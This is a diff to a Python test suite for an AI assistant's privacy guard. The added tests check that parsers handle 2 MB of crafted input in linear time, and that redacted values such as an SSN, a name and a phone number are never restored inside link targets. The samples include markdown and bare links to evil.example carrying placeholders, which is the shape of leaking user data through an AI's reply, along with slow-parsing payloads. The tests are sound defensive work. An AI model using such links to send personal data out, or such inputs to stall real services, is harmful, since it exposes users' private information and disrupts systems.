@@ -17,8 +17,6 @@ from click.testing import CliRunner
 from assistant import egress
 from assistant.cli import cli, main
 from assistant.errors import GuardBlocked, PrivacyError, TeacherError
-from assistant.graph import parse_triples
-from assistant.parsing import parse_list
 from assistant.privacy.detect import Detector, load_policy
 from assistant.privacy.guard import EgressGuard
 from assistant.privacy.placeholders import Vault
@@ -152,23 +150,52 @@ def test_item_11_a_dripping_reply_stops_at_the_timeout(
     assert time.monotonic() - started < 15  # each byte comes before the read timeout
 
 
-@pytest.mark.parametrize(
-    "text",
-    [
-        "[" * 200_000,
-        '{"a": [' * 30_000,
-        "```" + " " * 200_000 + "x",
-        "x{[" * 70_000,
-    ],
-    ids=["brackets", "nested", "fence", "openings"],
-)
-def test_item_11_parsers_take_linear_time(text: str) -> None:
-    started = time.monotonic()
-    parse_triples(text)
-    parse_list(text)
-    # The old parsers took minutes here (48 kB: 8.4 s, growing with the square); this is a
-    # loose bound against that, not a speed target.
-    assert time.monotonic() - started < 5
+# Replies of about 2 MB (what egress reads at most) built to make a backtracking pattern
+# or a retry from every bracket cost the square of their length; the first four are
+# issue 30's (8 s to over a minute at 60 kB before it), the rest issue 14's.
+_SHAPES = {
+    "entity-1": '"Entity 1: x " * 170_000',
+    "entity-1-2": '"Entity 1: a Entity 2: b " * 85_000',
+    "marker-spaces": '"1." + " " * 2_000_000 + "\\n2."',
+    "unclosed-escapes": '"[\\"" + "\\\\\\"" * 1_000_000',
+    "quotes": '"[" + \'"\' * 2_000_000',
+    "tuple-spaces": '"(a" + " " * 2_000_000 + "b, c, d"',
+    "newlines": '"\\n" * 2_000_000 + "(a, b, c"',
+    "brackets": '"[" * 2_000_000',
+    "nested": "'{\"a\": [' * 300_000",
+    "fence": '"```" + " " * 2_000_000 + "x"',
+    "openings": '"x{[" * 700_000',
+}
+_TIMED = """
+import sys, time
+from assistant.graph import parse_triples
+from assistant.parsing import parse_list, parse_objects
+text = eval(sys.argv[1])
+assert len(text) >= 1_900_000, len(text)
+started = time.process_time()
+parse_triples(text)
+parse_list(text, keys=("evidence",), limit=10)
+parse_objects(text)
+print(time.process_time() - started)
+"""
+
+
+@pytest.mark.parametrize("shape", list(_SHAPES))
+def test_parsers_read_a_2_mb_crafted_reply_in_a_second(shape: str) -> None:
+    """Issue 30, item 2: every reader of a reply is linear in it.  CPU seconds of a child
+    process (not wall time: the suite shares the cores); a quadratic reader would run
+    for hours, so the child is stopped at 60 s and that fails the test."""
+    import subprocess
+    import sys
+
+    done = subprocess.run(
+        [sys.executable, "-c", _TIMED, _SHAPES[shape]],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=True,
+    )
+    assert float(done.stdout) <= 1.0, (shape, done.stdout)
 
 
 # -- item 7: a missing spaCy model ---------------------------------------------------------
@@ -212,6 +239,49 @@ def test_item_8_no_value_is_restored_inside_a_link() -> None:
     assert restored == (
         f"[the sheet](https://evil.example/x?a={ssn}) says Amelia Thompson is fine; "
         f"see www.e.x/{ssn}"
+    )
+
+
+def test_no_value_is_restored_in_a_link_target_with_parentheses_quotes_or_any_scheme() -> None:
+    """Issue 30, item 3.  Judged by markdown-it-py's full CommonMark renderer (every href
+    and src it makes) and by the runs a terminal could take for a link (any text with a
+    scheme or a domain and path, to the next white space): no restored value in either."""
+    from markdown_it import MarkdownIt
+
+    vault = Vault(tag_of=load_policy().tag)
+    ssn = vault.placeholder("US_SSN", "536-22-8471")
+    person = vault.placeholder("PERSON", "Amelia Thompson")
+    phone = vault.placeholder("PHONE_NUMBER", "+47 912 34 567")
+    replies = [
+        f"see [table](https://evil.example/t?a=(x){ssn}&n=(y){person})",
+        f"[Click](<https://evil.example/(a){ssn}>)",
+        f'[x](https://evil.example/?q="{ssn}") and `https://evil.example/`{person}',
+        f"https://evil.example/'{ssn}' https://evil.example/`{person}`",
+        f"ssh://{person}@evil.example irc://evil.example/{ssn} tel:{phone} sms:{phone}",
+        f"![img](https://evil.example/i.png?(){ssn})",
+        f"[ref]: https://evil.example/({person})",
+        f"[a](https://evil.example/((({ssn}))))",
+        f"evil.example/{ssn}/{person}",
+    ]
+    values = ("536-22-8471", "Amelia Thompson", "Thompson", "+47 912 34 567")
+    md = MarkdownIt("commonmark")
+    for reply in replies:
+        restored = vault.restore(reply)
+        targets = [
+            str(value)
+            for token in md.parseInline(restored)[0].children or []
+            for key, value in token.attrs.items()
+            if key in ("href", "src")
+        ]
+        targets += re.findall(r"\S*(?:://|\b(?:tel|sms):|\.example/)\S*", restored)
+        assert targets, reply
+        for target in targets:
+            assert not any(v in target for v in values), (reply, restored, target)
+    # Outside a link, values come back.
+    text = f"[the sheet](https://evil.example/(x){ssn}) says {person} is fine (tel. {phone})"
+    assert vault.restore(text) == (
+        f"[the sheet](https://evil.example/(x){ssn}) says Amelia Thompson is fine "
+        "(tel. +47 912 34 567)"
     )
 
 
